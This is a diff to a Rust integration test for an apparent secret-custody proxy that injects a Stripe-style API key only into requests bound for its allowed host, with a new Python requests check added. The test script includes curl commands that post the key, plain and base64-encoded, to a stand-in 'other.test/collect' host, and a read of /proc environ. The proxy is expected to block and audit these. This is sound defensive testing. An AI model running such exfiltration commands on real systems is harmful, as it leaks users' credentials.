@@ -115,8 +115,11 @@ fn bound_env(up: &Upstream, script: &str) -> Env {
 fn a_bound_value_reaches_only_its_destination_and_never_the_child() {
     let up = Upstream::start();
     let port = up.port;
+    // ./scripts/test makes a venv with `requests` and names it here.
+    let python = std::env::var("CUSTODY_TEST_PYTHON").unwrap_or_else(|_| "python3".into());
     let script = format!(
         r#"curl -sS -H "Authorization: Bearer $STRIPE_KEY" https://api.example.test:{port}/v1/charges
+{python} -c 'import os, requests; print("requests=%d" % requests.get("https://api.example.test:{port}/v1/balance", headers={{"Authorization": "Bearer " + os.environ["STRIPE_KEY"]}}, timeout=20).status_code)'
 curl -sS -o /dev/null -w 'other=%{{http_code}}\n' -d "$STRIPE_KEY" https://other.test:{port}/collect
 curl -sS -o /dev/null -w 'b64=%{{http_code}}\n' -d "$(printf %s "$STRIPE_KEY" | base64 -w0)" https://other.test:{port}/collect
 git -c http.extraHeader="Authorization: Bearer $STRIPE_KEY" ls-remote https://api.example.test:{port}/v1/repo.git >/dev/null 2>&1
@@ -140,6 +143,7 @@ tr '\0' '\n' < /proc/$$/environ | grep -c '{STRIPE}' || true"#
         lines.contains(&"other=403") && lines.contains(&"b64=403"),
         "{text}"
     );
+    assert!(lines.contains(&"requests=200"), "{text}");
     assert_eq!(lines[lines.len() - 2..], ["1", "0"], "{text}");
     // The upstream got the value on the bound requests (curl, then git's
     // smart-HTTP probe), and nothing from the refused ones.
@@ -157,6 +161,11 @@ tr '\0' '\n' < /proc/$$/environ | grep -c '{STRIPE}' || true"#
             && r["authorization"] == bearer.as_str()),
         "git: {seen:?}"
     );
+    assert!(
+        seen.iter()
+            .any(|r| r["path"] == "/v1/balance" && r["authorization"] == bearer.as_str()),
+        "requests: {seen:?}"
+    );
     assert!(!seen.iter().any(|r| r["path"] == "/collect"), "{seen:?}");
     // Audited by name: two requests sent on with the value, two refused.
     let sent = e.audit("proxy_request");
@@ -164,7 +173,7 @@ tr '\0' '\n' < /proc/$$/environ | grep -c '{STRIPE}' || true"#
         sent.iter()
             .filter(|r| r["event"]["injected"][0] == "STRIPE_KEY")
             .count()
-            >= 2,
+            >= 3,
         "{sent:?}"
     );
     let blocked = e.audit("exfiltration_blocked");
